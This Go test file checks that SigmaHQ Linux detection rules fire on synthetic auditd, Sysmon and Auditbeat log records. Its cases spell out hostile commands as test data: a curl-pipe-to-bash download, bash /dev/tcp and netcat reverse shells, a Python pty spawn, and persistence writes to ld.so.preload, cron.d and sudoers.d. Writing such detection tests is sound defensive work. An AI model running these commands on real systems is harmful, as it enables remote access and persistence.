package logpipeline_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/ironpost/ironpost/internal/testenv"
	"github.com/ironpost/ironpost/services/logpipeline"
)

// executed returns the records of audit.log for a program that was started.
func executed(serial int, exe string, arguments ...string) string {
	id := fmt.Sprintf("msg=audit(1764446400.123:%d):", serial)
	var quoted strings.Builder
	for i, a := range arguments {
		if strings.ContainsAny(a, ` "'|&;<>`) {
			fmt.Fprintf(&quoted, " a%d=%X", i, a)
		} else {
			fmt.Fprintf(&quoted, ` a%d="%s"`, i, a)
		}
	}
	return strings.Join([]string{
		"type=SYSCALL " + id + ` arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=42 auid=1000 uid=0 euid=0 comm="x" exe="` + exe + `" key=(null)`,
		fmt.Sprintf("type=EXECVE %s argc=%d%s", id, len(arguments), quoted.String()),
		"type=CWD " + id + ` cwd="/root"`, "type=PROCTITLE " + id + " proctitle=78",
	}, "\n") + "\n"
}

// call returns the records of audit.log for a system call.
func call(serial, number int, exe string, records ...string) string {
	id := fmt.Sprintf("msg=audit(1764446400.123:%d):", serial)
	out := fmt.Sprintf("type=SYSCALL %s arch=c000003e syscall=%d success=yes exit=0 a0=4 a1=241 a2=241 ppid=1 pid=42 auid=1000 uid=33 euid=33 comm=\"x\" exe=%q key=(null)\n", id, number, exe)
	for _, r := range records {
		kind, fields, _ := strings.Cut(r, " ")
		out += "type=" + kind + " " + id + " " + fields + "\n"
	}
	return out + "type=PROCTITLE " + id + " proctitle=78\n"
}

// startedBy returns the records of audit.log for a program that the process parent started.
func startedBy(serial, pid, parent int, exe string) string {
	return strings.ReplaceAll(executed(serial, exe, exe), "ppid=1 pid=42", fmt.Sprintf("ppid=%d pid=%d", parent, pid))
}

// sysmonEvent returns a line of Sysmon for Linux with fields, given by their names and values.
func sysmonEvent(id int, fields ...string) string {
	var data strings.Builder
	for i := 0; i < len(fields); i += 2 {
		fmt.Fprintf(&data, "<Data Name=%q>%s</Data>", fields[i], fields[i+1])
	}
	return fmt.Sprintf(`Nov 29 20:00:00 web1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>`+
		"<EventID>%d</EventID></System><EventData>%s</EventData></Event>\n", id, data.String())
}

// SigmaHQ's rules for Linux match what auditd writes, those of the service auditd as well as those of the categories.
func TestSigmaHQRulesMatchAuditRecords(t *testing.T) {
	t.Parallel()
	cfg := logpipeline.DefaultConfig()
	cfg.ShippedRules, cfg.RulesPath = false, testenv.Data(t, "sigma/rules/linux")
	for name, c := range map[string]struct {
		log  string
		want []string
	}{
		"download to a shell": {executed(1, "/usr/bin/bash", "bash", "-c", "curl http://192.0.2.7/a | bash"), []string{"Linux Shell Pipe to Shell"}},
		"setuid":              {executed(2, "/usr/bin/chmod", "chmod", "u+s", "/tmp/sh"), []string{"Suspicious Commands Linux"}},
		"reverse shell": {executed(3, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"), []string{
			"Suspicious Reverse Shell Command Line"}},
		"netcat":         {executed(4, "/usr/bin/nc", "nc", "-e", "/bin/sh", "192.0.2.7", "4444"), []string{"Potential Netcat Reverse Shell Execution"}},
		"python":         {executed(5, "/usr/bin/python3.11", "python3.11", "-c", `import pty; pty.spawn("/bin/sh")`), []string{"Python Spawning Pretty TTY Via PTY Module"}},
		"who am I":       {executed(6, "/usr/bin/whoami", "whoami"), []string{"System Owner or User Discovery - Linux"}},
		"web server":     {call(7, 59, "/usr/bin/id"), []string{"Webshell Remote Command Execution"}},
		"preload":        {call(8, 257, "/usr/bin/tee", `PATH item=0 name="/etc/ld.so.preload" nametype=CREATE`), []string{"Modification of ld.so.preload"}},
		"cron":           {call(9, 257, "/usr/bin/tee", `CWD cwd="/tmp"`, `PATH item=0 name="../etc/cron.d/x" nametype=CREATE`), []string{"New Cron File Created"}},
		"sudoers":        {call(10, 257, "/usr/bin/vi", `PATH item=0 name="/etc/sudoers.d/x" nametype=NORMAL`), []string{"Persistence Via Sudoers.d Files"}},
		"shell connects": {call(11, 42, "/usr/bin/bash", "SOCKADDR saddr=0200115CC63364070000000000000000"), []string{"Linux Reverse Shell Indicator", "Potentially Suspicious Malware Callback Communication - Linux"}},
		"mining pool":    {sysmonEvent(3, "Image", "/usr/bin/x", "DestinationHostname", "pool.minexmr.com"), []string{"Linux Crypto Mining Pool Connections"}},
		"web shell":      {startedBy(16, 700, 1, "/usr/sbin/nginx") + startedBy(17, 701, 700, "/usr/bin/whoami"), []string{"Linux Webshell Indicators"}},
		"web shell, by Sysmon": {sysmonEvent(1, "Image", "/usr/bin/whoami", "CommandLine", "whoami", "ParentImage", "/usr/sbin/nginx"), []string{
			"Linux Webshell Indicators"}},
		"download, by Sysmon": {sysmonEvent(11, "Image", "/usr/bin/wget", "TargetFilename", "/tmp/a"), []string{"Wget Creating Files in Tmp Directory"}},
		"netcat, by Auditbeat": {`{"event":{"module":"auditd"},"auditd":{"data":{"syscall":"execve"},"message_type":"syscall","result":"success"},` +
			`"process":{"executable":"/usr/bin/nc","args":["nc","-e","/bin/sh","192.0.2.7"],"pid":5}}` + "\n", []string{"Potential Netcat Reverse Shell Execution"}},
		"no shell listens": {call(12, 42, "/usr/bin/bash", "SOCKADDR saddr=0200115C7F0000010000000000000000"), nil},
		"firewall": {"type=SERVICE_STOP msg=audit(1764446400.300:13): pid=1 uid=0 msg='unit=ufw comm=\"systemd\" res=success'\n", []string{
			"Disable System Firewall"}},
		"another program's text": {"Nov 29 20:00:00 web1 app: type=EXECVE msg=audit(1764446400.123:14): argc=1 a0=\"whoami\"\n", nil},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			o, problems, err := logpipeline.NewOffline(cfg, "web1")
			require.NoError(t, err)
			require.NoError(t, problems)
			var got []string
			for i, line := range strings.Split(strings.TrimSuffix(c.log, "\n"), "\n") {
				for _, a := range o.Line(fmt.Sprint(i), []byte(line), time.Now()) {
					got = append(got, a.Title)
				}
			}
			if c.want == nil {
				require.Empty(t, got)
			}
			for _, want := range c.want {
				require.Contains(t, got, want)
			}
		})
	}
}
